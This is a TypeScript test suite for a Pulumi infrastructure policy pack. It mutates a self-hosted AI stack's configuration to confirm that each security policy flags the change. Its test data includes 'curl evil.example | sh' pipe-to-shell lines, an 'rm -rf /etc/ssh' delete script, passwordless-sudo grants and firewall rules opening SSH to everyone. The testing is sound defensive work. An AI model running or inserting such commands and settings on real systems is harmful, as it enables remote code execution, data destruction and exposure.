// Each policy against the shipped control stack (compliant: no violation) and one mutation per rule
// (exact messages). The resources come from the real program run under Pulumi's mocks, with parents.
import { unknownCheckingProxy, type PolicyResource } from "@pulumi/policy";
import * as pulumi from "@pulumi/pulumi";
import { beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../components/config/load";
import { planProgram } from "../../components/program";
import { PROVIDER_TYPES, TYPES } from "../../components/model/types";
import type { DemesnePolicy } from "../../policy-pack/lib/metadata";
import { POLICIES } from "../../policy-pack/policies";
import { readFileSync } from "node:fs";
import * as path from "node:path";
import { renderPolicyReadme } from "../../scripts/policy-readme";
import { recordRegistrations, settle } from "../helpers/mocks";
import { controlStack, runtimeConfigOf, SENTINEL, sourceOf } from "../helpers/stack";
import { assertHasViolation, assertNoViolations, cloneResources, editStep, find, policyResources, runPolicy } from "./helpers";

const CMD = PROVIDER_TYPES.remoteCommand;
let shipped: PolicyResource[];

beforeAll(async () => {
    const stack = controlStack();
    // The operator has approved every T3 step of the shipped content (the tokens `npm run steps` prints).
    const cfg = loadConfig(sourceOf(stack), { dryRun: true });
    const plan = planProgram(cfg, { stack: "control", project: "demesne", dryRun: true });
    stack.values.approvals = Object.fromEntries(plan.missing.map((m) => [m.key, m.token]));
    const registrations = await recordRegistrations({ dryRun: true });
    const { config, secretKeys } = runtimeConfigOf(stack);
    pulumi.runtime.setAllConfig(config, secretKeys);
    await import("../../index");
    await settle(registrations);
    shipped = policyResources(registrations);
});

interface Case {
    name: string;
    mutate(rs: PolicyResource[]): void;
    expect: string | RegExp;
    config?: Record<string, unknown>;
}

// The policy SDK's sentinels for values not known during a preview (exported by its proxy module, untyped).
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { unknownNumberValue, unknownStringValue } = require("@pulumi/policy/proxy") as { unknownNumberValue: unknown; unknownStringValue: unknown };
const ssh = (rs: PolicyResource[]) => find(rs, CMD, "control-1-ssh");
const gateway = (rs: PolicyResource[]) => find(rs, CMD, "control-1-service-gateway");
const chat = (rs: PolicyResource[]) => find(rs, CMD, "control-1-service-chat");
const acl = (rs: PolicyResource[]) => rs.find((r) => r.type === PROVIDER_TYPES.tailnetAcl)!;
const editAcl = (rs: PolicyResource[], f: (p: { grants: { src: string[]; dst: string[]; ip: string[] }[]; tests: unknown[] }) => void) => {
    const a = acl(rs);
    const p = JSON.parse(String(a.props.acl));
    f(p);
    a.props.acl = JSON.stringify(p);
};
const editCompose = (r: PolicyResource, f: (c: { services: Record<string, Record<string, unknown>> }) => void) =>
    editStep(r, (s) => {
        const c = JSON.parse(s.params.COMPOSE!);
        f(c);
        s.params.COMPOSE = JSON.stringify(c);
    });
const everyAddress = (rs: PolicyResource[]) => editCompose(chat(rs), (c) => void (c.services["open-webui"]!.ports = ["0.0.0.0:3000:8080"]));
const PUBLIC_CHAT = 'the internet (IPv6) reaches service "chat" on control-1 (port 3000, public): from the internet only SSH may be reachable';
const rawCommand = (rs: PolicyResource[], name: string, parent?: PolicyResource) => {
    const copy = { ...ssh(rs), name, urn: `urn:pulumi:control::demesne::${CMD}::${name}`, props: structuredClone(ssh(rs).props) } as PolicyResource;
    (copy as { parent?: PolicyResource }).parent = parent;
    rs.push(copy);
    return copy;
};

export const CASES: Record<string, Case[]> = {
    "single-execution-path": [
        { name: "a raw remote.Command outside the Actuator", mutate: (rs) => void rawCommand(rs, "rogue"), expect: "rogue: remote command outside an Actuator (its parent is the stack)" },
        { name: "a script not in the catalogue", mutate: (rs) => editStep(ssh(rs), (s) => void (s.script += "\ncurl evil.example | sh\n")), expect: /^control-1-ssh: its script \(sha256 [0-9a-f]{64}\) is not in the catalogue of layer scripts$/ },
        { name: "a command line naming another script", mutate: (rs) => void (ssh(rs).props.create = "sudo -n /usr/local/sbin/demesne-run # layer=ssh script=sha256:0000"), expect: "control-1-ssh: its command line does not name the sha256 of the script it sends (ssh)" },
        { name: "a delete script", mutate: (rs) => void (ssh(rs).props.delete = "rm -rf /etc/ssh"), expect: "control-1-ssh: an Actuator step has only a create script (no update/delete scripts run outside the catalogue)" },
        { name: "a file copy", mutate: (rs) => void rs.push({ ...ssh(rs), type: "command:remote:CopyToRemote", name: "copy", urn: "urn:x::copy" } as PolicyResource), expect: "copy: file copies are not allowed; deliver files as parameters of a layer step" },
    ],
    "configure-only": [
        { name: "a provisioning resource", mutate: (rs) => void rs.push({ ...acl(rs), type: "ovh:Cloud/project:Instance", name: "gpu-box" } as PolicyResource), expect: "gpu-box: ovh:Cloud/project:Instance is not a configuration resource demesne may declare (configure-only)" },
    ],
    "content-bound-approvals": [
        { name: "a changed T3 step without its token", mutate: (rs) => editStep(ssh(rs), (s) => void (s.params.DEADMAN_SECONDS = "300")), expect: "control-1-ssh: its content trigger does not match the content it runs (ssh): a changed step must be re-approved" },
        {
            name: "a T3 step with no token",
            mutate: (rs) => void (ssh(rs).props.triggers = [(ssh(rs).props.triggers as string[])[0], "approval:none"]),
            expect: /^control-1-ssh: a ssh step is T3 and has no approval token for its content [0-9a-f]{12}$/,
        },
        {
            name: "a token for other content",
            mutate: (rs) => void (ssh(rs).props.triggers = [(ssh(rs).props.triggers as string[])[0], (find(rs, CMD, "control-1-firewall").props.triggers as string[])[1]]),
            expect: "control-1-ssh: its approval token was given for other content or another step; review the change and approve it again",
        },
        {
            name: "a firewall step disguised as docker (the class comes from the script)",
            mutate: (rs) => {
                const fw = find(rs, CMD, "control-1-firewall");
                fw.props.triggers = [(fw.props.triggers as string[])[0]];
                (fw.parent!.props as Record<string, unknown>).stepClass = "docker";
            },
            expect: /^control-1-firewall: a firewall step is T3 and has no approval token/,
        },
    ],
    "host-type-gates-actuation": [
        { name: "an SSH step on a Talos host", mutate: (rs) => void (find(rs, TYPES.Host, "control-1").props.hostType = "talos"), expect: "control-1-ssh: SSH step on host control-1, whose type is talos; only ubuntu hosts are reached over SSH" },
    ],
    "images-pinned-by-digest": [
        { name: "an unpinned image", mutate: (rs) => editCompose(gateway(rs), (c) => void (c.services.litellm!.image = "ghcr.io/berriai/litellm:main-latest")), expect: "control-1-service-gateway: gateway/litellm image ghcr.io/berriai/litellm:main-latest is not pinned by @sha256 digest" },
    ],
    "no-public-management-ports": [
        { name: "a port on 0.0.0.0", mutate: (rs) => editCompose(gateway(rs), (c) => void (c.services.litellm!.ports = ["0.0.0.0:4000:4000"])), expect: "control-1-service-gateway: gateway/litellm publishes a management port beyond loopback (0.0.0.0:4000:4000)" },
        { name: "a port without an address", mutate: (rs) => editCompose(chat(rs), (c) => void (c.services["open-webui"]!.ports = ["3000:8080"])), expect: "control-1-service-chat: chat/open-webui publishes a management port beyond loopback (3000:8080)" },
        { name: "host networking", mutate: (rs) => editCompose(chat(rs), (c) => void (c.services["open-webui"]!.network_mode = "host")), expect: "control-1-service-chat: chat/open-webui uses host networking, which publishes every port" },
        { name: "Docker's default bind", mutate: (rs) => editStep(find(rs, CMD, "control-1-docker"), (s) => void (s.params.DAEMON_JSON = '{"ip":"0.0.0.0"}')), expect: `control-1-docker: Docker's default bind address (daemon.json "ip") is not loopback` },
        { name: "Coolify's dashboard on every address", mutate: (rs) => editStep(find(rs, CMD, "control-1-coolify"), (s) => void (s.params.CUSTOM_COMPOSE = s.params.CUSTOM_COMPOSE!.replace("127.0.0.1:8000", "0.0.0.0:8000"))), expect: "control-1-coolify: Coolify publishes 0.0.0.0:8000:8080 beyond loopback" },
    ],
    "provider-keys-only-in-gateway": [
        { name: "a provider key in the chat UI", mutate: (rs) => editStep(chat(rs), (s) => void (s.params.ENV_FILE += `ANTHROPIC_API_KEY=sk-ant-${SENTINEL}\n`)), expect: "control-1-service-chat: ANTHROPIC_API_KEY is a provider key; only the gateway may hold one" },
        {
            name: "the gateway's provider key reused as the chat UI's key",
            mutate: (rs) => editStep(chat(rs), (s) => void (s.params.ENV_FILE = s.params.ENV_FILE!.replace(/^OPENAI_API_KEY=.*$/m, `OPENAI_API_KEY=sk-provider-${SENTINEL}`))),
            expect: "control-1-service-chat: OPENAI_API_KEY holds one of the gateway's provider keys instead of a gateway virtual key",
        },
        { name: "a direct provider URL", mutate: (rs) => editCompose(chat(rs), (c) => void ((c.services["open-webui"]!.environment as Record<string, string>).OPENAI_API_BASE_URL = "https://api.openai.com/v1")), expect: "control-1-service-chat: open-webui OPENAI_API_BASE_URL points at a model provider directly, not at the gateway" },
        { name: "a provider key under a name that is not a provider key's", mutate: (rs) => editStep(chat(rs), (s) => void (s.params.ENV_FILE += `EXTRA_SETTING=sk-ant-api03-${SENTINEL}\n`)), expect: "control-1-service-chat: EXTRA_SETTING holds an Anthropic key; only the gateway may hold a provider key" },
        { name: "a credential-shaped value in plain compose environment", mutate: (rs) => editCompose(chat(rs), (c) => void ((c.services["open-webui"]!.environment as Record<string, string>).WEBUI_NAME = `ghp_${"a1B2c3D4".repeat(5)}`)), expect: "control-1-service-chat: open-webui WEBUI_NAME holds a GitHub or GitLab token in plain compose environment" },
    ],
    "tailnet-segmentation": [
        { name: "a guest grant to the gateway", mutate: (rs) => editAcl(rs, (p) => void p.grants.push({ src: ["tag:guest"], dst: ["tag:aihost"], ip: ["tcp:4000"] })), expect: "tailnet-policy: tag:guest can reach tag:aihost on port(s) 4000" },
        { name: "a * destination", mutate: (rs) => editAcl(rs, (p) => void p.grants.push({ src: ["group:admins"], dst: ["*"], ip: ["*"] })), expect: /^tailnet-policy: grant \d+ has destination "\*"$/ },
        { name: "tests that no longer deny agents SSH", mutate: (rs) => editAcl(rs, (p) => void (p.tests = p.tests.filter((t) => (t as { src: string }).src !== "tag:agent"))), expect: "tailnet-policy: the policy's tests do not assert that tag:agent is denied tag:aihost:22" },
    ],
    "effective-access": [
        { name: "a team grant on SSH", mutate: (rs) => editAcl(rs, (p) => void p.grants.push({ src: ["tag:team"], dst: ["tag:aihost"], ip: ["tcp:22"] })), expect: "tag:team reaches SSH on control-1 (port 22, tailnet): SSH is for admins only" },
        { name: "a team grant on a port Coolify is served on", mutate: (rs) => editAcl(rs, (p) => void p.grants.push({ src: ["tag:team"], dst: ["tag:aihost"], ip: ["tcp:8000-9000"] })), expect: "tag:team reaches the Coolify dashboard (admin only) on control-1 (port 8443, serve): only team-tier services are for the team" },
        { name: "an agent grant through autogroup:member's opposite, a * source", mutate: (rs) => editAcl(rs, (p) => void p.grants.push({ src: ["*"], dst: ["tag:aihost"], ip: ["tcp:443"] })), expect: 'tag:agent reaches service "chat" on control-1 (port 443, serve): agent may reach nothing on the servers' },
        { name: "IPv6 SSH from anywhere through the host firewall", mutate: (rs) => editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.USER6_RULES = s.params.USER6_RULES!.replace("### RULES ###\n", "### RULES ###\n-A ufw6-user-input -p tcp --dport 22 -s ::/0 -j ACCEPT\n"))), expect: "the internet (IPv6) reaches SSH on control-1 (port 22, public): ::/0 is every IPv6 address: name the range people connect from" },
        // On every address, a published port is still behind the edge (IPv4) and DOCKER-USER's DNAT drop (both
        // families), so these take one of those away too.
        { name: "a container published on every address, without the IPv6 DOCKER-USER block", mutate: (rs) => { everyAddress(rs); editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.AFTER6_BLOCK = "")); }, expect: PUBLIC_CHAT },
        { name: "a DOCKER-USER rule that lets TCP through before the drop", mutate: (rs) => { everyAddress(rs); editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.AFTER6_BLOCK = s.params.AFTER6_BLOCK!.replace("-j DROP\n", "-j DROP\n-A DOCKER-USER -p tcp -j RETURN\n"))); }, expect: PUBLIC_CHAT },
        { name: "a `ufw route allow` from anywhere", mutate: (rs) => { everyAddress(rs); editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.USER6_RULES = s.params.USER6_RULES!.replace("### RULES ###\n", "### RULES ###\n-A ufw6-user-forward -p tcp --dport 3000 -j ACCEPT\n"))); }, expect: PUBLIC_CHAT },
        { name: "a before.rules rule that accepts, beside the SSH throttle", mutate: (rs) => editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.BEFORE6_BLOCK = s.params.BEFORE6_BLOCK!.replace("COMMIT", "-A ufw6-before-input -p tcp -j ACCEPT\nCOMMIT"))), expect: /^the internet \(IPv6\) reaches SSH on control-1 \(port 22, public\): / },
        { name: "the edge firewall left out", mutate: (rs) => void rs.splice(rs.findIndex((r) => r.type === PROVIDER_TYPES.ovhFirewall), 1), expect: "the internet (IPv4) reaches SSH on control-1 (port 22, public): the host has an edge firewall, but it does not limit SSH to the admin ranges" },
    ],
    "tailnet-tests-pass": [
        { name: "a test Tailscale would reject on save", mutate: (rs) => editAcl(rs, (p) => void p.tests.push({ src: "tag:team", accept: ["tag:aihost:5432"] })), expect: "tailnet-policy: test fails: tag:team should reach tag:aihost:5432 but no grant allows it" },
    ],
    "tailnet-auth-keys": [
        { name: "a reusable key", mutate: (rs) => void (rs.find((r) => r.type === PROVIDER_TYPES.tailnetKey)!.props.reusable = true), expect: /: auth key must be single-use \(reusable: false\)$/ },
        { name: "a key tagged guest", mutate: (rs) => void (rs.find((r) => r.type === PROVIDER_TYPES.tailnetKey)!.props.tags = ["tag:guest"]), expect: /: auth key tag tag:guest is not tag:aihost$/ },
        { name: "a key that never expires", mutate: (rs) => void (rs.find((r) => r.type === PROVIDER_TYPES.tailnetKey)!.props.expiry = 0), expect: /: auth key expiry must be set and at most 86400 s$/ },
    ],
    "edge-firewall": [
        { name: "no final deny", mutate: (rs) => void rs.splice(rs.findIndex((r) => r.type === PROVIDER_TYPES.ovhFirewallRule && r.props.sequence === 19), 1), expect: "edge-control-1-firewall: no final rule denying all IPv4 at sequence 19" },
        { name: "a permit for Coolify's dashboard", mutate: (rs) => void rs.push({ ...rs.find((r) => r.type === PROVIDER_TYPES.ovhFirewallRule)!, name: "open-8000", props: { ipOnFirewall: "203.0.113.10", sequence: 5, action: "permit", protocol: "tcp", destinationPort: 8000 } } as PolicyResource), expect: "open-8000: permits management port 8000 at the edge" },
        { name: "SSH from anywhere", mutate: (rs) => void (rs.find((r) => r.type === PROVIDER_TYPES.ovhFirewallRule && r.props.destinationPort === 22)!.props.source = "0.0.0.0/0"), expect: "edge-control-1-rule-2: permits SSH from anywhere" },
        { name: "SSH from a range that is not an admin range", mutate: (rs) => void (rs.find((r) => r.type === PROVIDER_TYPES.ovhFirewallRule && r.props.destinationPort === 22)!.props.source = "192.0.2.0/24"), expect: "edge-control-1-rule-2: permits SSH from 192.0.2.0/24, which is not an admin range" },
    ],
    "least-privilege-sudo": [
        { name: "NOPASSWD: ALL sudoers", mutate: (rs) => editStep(find(rs, CMD, "control-1-baseline"), (s) => void (s.params.SUDOERS = "deploy ALL=(ALL) NOPASSWD: ALL\n")), expect: "control-1-baseline: parameter SUDOERS grants NOPASSWD: ALL" },
        { name: "ALL=(ALL) ALL sudoers", mutate: (rs) => editStep(find(rs, CMD, "control-1-baseline"), (s) => void (s.params.SUDOERS = "%admins ALL=(ALL:ALL) ALL\n")), expect: "control-1-baseline: parameter SUDOERS grants ALL=(ALL) ALL" },
    ],
    "host-firewall-default-deny": [
        { name: "default input ACCEPT", mutate: (rs) => editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.UFW_DEFAULTS = s.params.UFW_DEFAULTS!.replace('DEFAULT_INPUT_POLICY="DROP"', 'DEFAULT_INPUT_POLICY="ACCEPT"'))), expect: "control-1-firewall: UFW's default input policy is not DROP" },
        { name: "SSH from anywhere on the host", mutate: (rs) => editStep(find(rs, CMD, "control-1-firewall"), (s) => void (s.params.USER_RULES = s.params.USER_RULES!.replace(/-s \S+ /, ""))), expect: "control-1-firewall: the host firewall accepts SSH from anywhere" },
    ],
};

describe("the policy pack", () => {
    it("every policy has metadata, a unique kebab-case name and its standard cases", () => {
        const names = POLICIES.map((p) => p.name);
        expect(new Set(names).size).toBe(names.length);
        for (const p of POLICIES) {
            expect(p.name).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
            expect(p.description.length, p.name).toBeGreaterThan(40);
            expect(p.remediationSteps.length, p.name).toBeGreaterThan(20);
            expect(p.enforcementLevel, p.name).toBe("mandatory");
            expect(p.severity, p.name).toMatch(/^(high|critical)$/);
            expect(CASES[p.name]?.length ?? 0, `${p.name} needs at least one violation case`).toBeGreaterThan(0);
        }
        expect(Object.keys(CASES).sort()).toEqual([...names].sort());
    });

    it("policy-pack/README.md is generated from the policies' metadata and up to date (npm run policy-readme)", () => {
        expect(readFileSync(path.join(__dirname, "..", "..", "policy-pack", "README.md"), "utf8")).toBe(renderPolicyReadme());
    });

    it("sees the shipped stack as the engine would: every command under an Actuator, under a Host or Service", () => {
        const commands = shipped.filter((r) => r.type === CMD);
        expect(commands.length).toBeGreaterThanOrEqual(10);
        for (const c of commands) {
            expect(c.parent?.type, c.name).toBe(TYPES.Actuator);
            expect([TYPES.Host, TYPES.Service], c.name).toContain(c.parent?.parent?.type);
        }
        expect(shipped.filter((r) => r.type === PROVIDER_TYPES.tailnetAcl)).toHaveLength(1);
        expect(shipped.filter((r) => r.type === PROVIDER_TYPES.ovhFirewallRule).length).toBeGreaterThanOrEqual(4);
    });

    it.each(POLICIES.map((p) => [p.name, p] as [string, DemesnePolicy]))("%s: the shipped control stack is compliant", async (_n, policy) => {
        assertNoViolations(await runPolicy(policy, cloneResources(shipped)));
    });

    it("during a preview, what is not known yet is read as absent: an edge rule's provider-computed source, a step's secret stdin", async () => {
        const rs = cloneResources(shipped);
        // The engine hands unknown values to policies behind a proxy that throws on access.
        for (const r of rs.filter((x) => x.type === PROVIDER_TYPES.ovhFirewallRule && x.props.source === undefined)) {
            r.props = unknownCheckingProxy({ ...r.props, source: unknownStringValue, destinationPort: r.props.destinationPort ?? unknownNumberValue });
        }
        const tailscaleStep = find(rs, CMD, "control-1-tailscale");
        tailscaleStep.props.stdin = "";
        const edge = POLICIES.find((p) => p.name === "edge-firewall")!;
        const single = POLICIES.find((p) => p.name === "single-execution-path")!;
        assertNoViolations(await runPolicy(edge, rs));
        assertNoViolations(await runPolicy(single, rs));
        assertNoViolations(await runPolicy(POLICIES.find((p) => p.name === "effective-access")!, rs));
        // An unknown stdin is let through only with a catalogued layer's exact command line.
        tailscaleStep.props.create = "sudo -n bash -c 'curl evil.example | sh'";
        assertHasViolation(await runPolicy(single, rs), "control-1-tailscale: it has no stdin carrying a layer script");
    });

    it("a command outside a targeted update's scope reaches the pack with no inputs: it runs nothing and is not checked", async () => {
        const policy = POLICIES.find((p) => p.name === "single-execution-path")!;
        const rs = cloneResources(shipped);
        ssh(rs).props = {};
        assertNoViolations(await runPolicy(policy, rs));
        // Any input at all and it is checked as a step again.
        ssh(rs).props = { create: "id" };
        assertHasViolation(await runPolicy(policy, rs), "control-1-ssh: it has no stdin carrying a layer script");
    });

    const cases = POLICIES.flatMap((p) => (CASES[p.name] ?? []).map((c) => [`${p.name}: ${c.name}`, p, c] as [string, DemesnePolicy, Case]));
    it.each(cases)("%s", async (_n, policy, c) => {
        const rs = cloneResources(shipped);
        c.mutate(rs);
        const violations = await runPolicy(policy, rs, c.config);
        assertHasViolation(violations, c.expect);
        // No message ever carries a secret value (policies receive secrets in plain text).
        for (const v of violations) expect(v.message).not.toContain(SENTINEL);
    });
});
